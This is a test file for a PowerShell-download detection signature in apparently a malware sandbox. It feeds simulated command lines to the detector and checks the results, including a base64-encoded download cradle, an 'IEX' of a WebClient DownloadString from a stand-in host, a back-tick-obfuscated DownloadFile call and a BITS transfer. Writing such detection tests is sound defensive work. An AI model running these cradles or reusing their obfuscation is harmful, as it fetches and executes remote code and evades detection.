import { given, SignatureTester } from 'ovoscope/testing';
import PowershellDownload from './powershell_download.ts';

const run = (command_line: string) => given('sample.exe', ['CreateProcessInternalW', { command_line }]);
const script = "(New-Object Net.WebClient).DownloadString('http://x.example/a')";
const encoded = Buffer.from(script, 'utf16le').toString('base64');

new SignatureTester().run(PowershellDownload, {
  detects: [
    {
      name: 'in an encoded command',
      results: run(`powershell -e ${encoded}`),
      data: [
        {
          pid: 1000,
          process: 'sample.exe',
          cid: 0,
          api: 'CreateProcessInternalW',
          command_line: `powershell -e ${encoded}`,
          decoded: script,
        },
      ],
    },
    { name: 'in plain sight', results: run(`powershell -c "IEX ${script}"`) },
    { name: 'with back-ticks', results: run('powershell -c "(New-Object Net.Web`Cl`ient).Down`loadFile(1,2)"') },
    { name: 'BITS', results: run('powershell Start-BitsTransfer -Source http://x.example/a -Destination C:\\a') },
  ],
  ignores: [run('powershell Get-Date'), run('curl http://x.example/a'), run('powershell -File C:\\wgetter.ps1')],
});
